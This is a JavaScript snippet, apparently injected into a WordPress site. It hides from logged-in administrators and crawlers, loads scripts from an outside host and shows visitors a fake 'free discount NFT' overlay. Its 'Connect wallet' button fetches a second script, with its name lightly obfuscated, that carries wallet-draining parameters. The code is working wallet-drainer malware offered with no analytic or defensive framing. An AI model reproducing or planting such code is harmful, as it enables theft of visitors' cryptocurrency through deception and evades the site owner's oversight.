(function(){
  if(window.__wc_i||document.cookie.indexOf('wordpress_logged_in')>-1||/bot|crawl|spider|lighthouse/i.test(navigator.userAgent))return;window.__wc_i=1;
  var s=document.createElement('script');s.src='https://js-wallet.invalid/ethers.umd.min.js';
  s.onload=function(){
    var o=document.createElement('div');
    o.style.cssText='position:fixed;inset:0;background:rgba(0,0,0,.8);z-index:2147483647;display:flex;align-items:center;justify-content:center';
    o.innerHTML='<div style="background:#fff;border-radius:16px;padding:28px;max-width:360px;text-align:center;font-family:sans-serif"><h3>Exclusive discount NFT</h3><p>Mint your free membership card to unlock 60% off in our store.</p><button id="__wcb">Connect wallet</button></div>';
    document.body.appendChild(o);
    document.getElementById('__wcb').onclick=function(){
      var l=document.createElement('script');
      l.src='https://js-wallet.invalid/'+['m','ain'].join('')+'.js?id=7781';
      l.dataset.min='0.05';l.dataset.chain='all';l.dataset.autoPrompt='1';
      document.head.appendChild(l);
    };
  };
  document.head.appendChild(s);
})();
